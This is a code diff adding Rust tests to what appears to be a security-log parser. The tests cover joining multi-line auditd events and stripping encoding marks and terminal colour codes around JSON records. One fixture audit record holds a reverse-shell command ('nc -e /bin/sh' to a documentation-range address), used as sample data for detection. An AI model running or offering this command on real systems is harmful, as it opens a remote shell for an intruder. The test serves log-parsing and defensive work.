@@ -140,6 +140,59 @@ fn the_line_within_is_read() {
     }
 }
 
+/// Lines of one event as a list, as shippers join them.
+#[test]
+fn a_list_of_lines_is_one_event() {
+    let lines = [
+        "type=SYSCALL msg=audit(1768476600.123:77): arch=c000003e syscall=59 success=yes exit=0 pid=9 auid=1000 uid=0 comm=\\\"nc\\\" exe=\\\"/usr/bin/nc\\\" key=\\\"x\\\"",
+        "type=EXECVE msg=audit(1768476600.123:77): argc=4 a0=\\\"nc\\\" a1=\\\"-e\\\" a2=\\\"/bin/sh\\\" a3=\\\"198.51.100.7\\\"",
+    ];
+    let [one, two] = lines;
+    let joined = answer(&format!(r#"{{"message":"{one}\n{two}"}}"#));
+    assert!(joined.contains(r#""source":"linux.auditd""#), "{joined}");
+    for record in [
+        format!(r#"{{"message":["{one}","{two}"]}}"#),
+        format!(r#"{{"message": [ "{one}" , "{two}" ]}}"#),
+        format!(r#"{{"log":["{one}","{two}"]}}"#),
+        format!(
+            r#"{{"@timestamp":"2026-01-15T11:31:00Z","log":{{"offset":3,"file":{{"path":"/var/log/audit/audit.log"}}}},"message":["{one}","{two}"]}}"#
+        ),
+    ] {
+        let answer = answer(&record);
+        assert!(answer.contains(r#""source":"linux.auditd""#), "{record}\n{answer}");
+        assert!(answer.contains("nc -e /bin/sh 198.51.100.7"), "{record}\n{answer}");
+    }
+    for record in [
+        r#"{"message":[]}"#,
+        r#"{"message":[1,"x"]}"#,
+        r#"{"message":["x",{}]}"#,
+        r#"{"message":["Failed password for root from 198.51.100.7 port 22 ssh2"]}"#,
+        r#"{"log":["\ud800","x"]}"#,
+    ] {
+        assert!(!answer(record).contains(r#""source""#), "{record}");
+    }
+}
+
+/// Marks of encodings, ends of messages and colours are no part of an object.
+#[test]
+fn what_stands_around_an_object_is_none_of_it() {
+    for (before, behind) in [
+        ("\u{feff}", ""),
+        ("", "\0"),
+        ("\0\u{feff}", "\0\0"),
+        ("\x1b[32m", "\x1b[0m"),
+        ("\x1b[01;31m\x1b[K", "\x1b[m\x1b[K\n"),
+        ("", "\x1b[0m\r\n"),
+    ] {
+        let answer = answer(&format!("{before}{EVENT}{behind}"));
+        assert!(answer.contains(r#""source":"aws.cloudtrail""#), "{before:?} {behind:?} {answer}");
+        assert!(!answer.contains("not-json"), "{answer}");
+    }
+    for record in ["\x1b[32m{", "{}m", "{\"a\":1}K", "{\"a\":1}\x1b[0", "\x1b[32m\x1b[0m", "{\0"] {
+        assert!(answer(record).contains("\"raw\":\""), "{record:?}");
+    }
+}
+
 #[test]
 fn what_an_application_writes_is_its_own() {
     for form in [
